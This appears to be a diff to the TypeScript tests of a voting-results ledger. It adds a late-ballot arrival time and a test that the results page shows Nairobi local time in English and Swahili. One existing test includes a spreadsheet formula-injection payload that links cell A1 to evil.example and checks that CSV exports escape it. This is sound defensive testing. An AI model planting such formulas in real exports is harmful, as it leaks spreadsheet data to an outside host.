@@ -49,8 +49,11 @@ async function votedLedger(backend: Backend = 'sqlite', edit: (d: Deployment) =>
       await push([]); // the gateway has delivered everything
       await ledger.publishResults('c-open');
     },
-    /** A ballot arriving after publication, from the same gateway. */
-    late: () => push([f.vote('+254711000009', [3], '2026-11-30T17:00:00Z')]),
+    /** A ballot arriving after publication (at `arrival`), from the same gateway. */
+    late: (arrival = AFTER_CLOSE) => {
+      now = arrival;
+      return push([f.vote('+254711000009', [3], '2026-11-30T17:00:00Z')]);
+    },
   };
 }
 
@@ -290,6 +293,22 @@ describe('CSV exports cannot carry formulas', () => {
     expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
     expect(row).toMatch(/^c-open,north,1,/);
     expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m);
+    await v.ledger.close();
+  });
+});
+
+describe('the results page tells time as residents do', () => {
+  it('in the deployment’s time zone (Nairobi), where the date differs from UTC', async () => {
+    const v = await votedLedger();
+    await v.publish();
+    // Arrived 22:15 UTC on 1 December: 01:15 on 2 December in Nairobi.
+    await v.late(new Date('2026-12-01T22:15:00Z'));
+    const page = (await request(app(v.ledger)).get('/results/c-open')).text;
+    expect(page).toContain('<td>2 Dec 2026, 01:15 GMT+3</td>');
+    expect(page).toContain('<td>30 Nov 2026, 20:00 GMT+3</td>'); // captured 17:00 UTC
+    expect(page).not.toMatch(/UTC|2026-12-01/);
+    const sw = (await request(app(v.ledger)).get('/results/c-open?lang=sw')).text;
+    expect(sw).toContain('2 Des 2026, 01:15');
     await v.ledger.close();
   });
 });
